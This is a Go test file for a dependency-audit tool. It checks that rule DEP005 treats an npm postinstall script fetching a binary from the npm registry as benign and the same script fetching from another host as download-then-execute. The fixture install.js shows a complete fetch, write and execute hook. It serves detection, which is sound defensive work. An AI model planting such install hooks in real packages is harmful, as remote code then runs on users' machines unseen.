package audit

import (
	"os"
	"path/filepath"
	"testing"
)

// A postinstall that fetches the package's own binary from the npm registry, writes it and runs
// it (as esbuild's install.js does) is not download-then-execute; the same code fetching from
// another host is.
func TestDEP005RegistryFetchIsNotDownloadExecute(t *testing.T) {
	install := func(url string) string {
		return `const https = require("https");
const fs = require("fs");
const child_process = require("child_process");
function fetch(url) { return new Promise((ok) => https.get(url, (res) => ok(res))); }
async function main() {
  const res = await fetch("` + url + `");
  fs.writeFileSync("bin/tool", res);
  child_process.execFileSync("bin/tool", ["--version"]);
}
main();
`
	}
	for _, tc := range []struct {
		url  string
		fail bool
	}{
		{"https://registry.npmjs.org/@tool/linux-x64/-/linux-x64-1.0.0.tgz", false},
		{"https://downloads.example.com/tool-linux-x64", true},
	} {
		dir := t.TempDir()
		pkg := filepath.Join(dir, "node_modules", "tool")
		if err := os.MkdirAll(pkg, 0o755); err != nil {
			t.Fatal(err)
		}
		files := map[string]string{
			filepath.Join(dir, "package.json"): `{"name":"app","version":"1.0.0","dependencies":{"tool":"1.0.0"}}`,
			filepath.Join(pkg, "package.json"): `{"name":"tool","version":"1.0.0","scripts":{"postinstall":"node install.js"}}`,
			filepath.Join(pkg, "install.js"):   install(tc.url),
		}
		for path, content := range files {
			if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		r := verify(t, fixtureEnv(t, "jail"), dir, ProfileDependency)
		f, _ := r.Finding("DEP005")
		if (f.Result == Fail) != tc.fail {
			t.Errorf("fetch from %s: DEP005 %s (%s), want fail=%v", tc.url, f.Result, evidenceText(f), tc.fail)
		}
	}
}
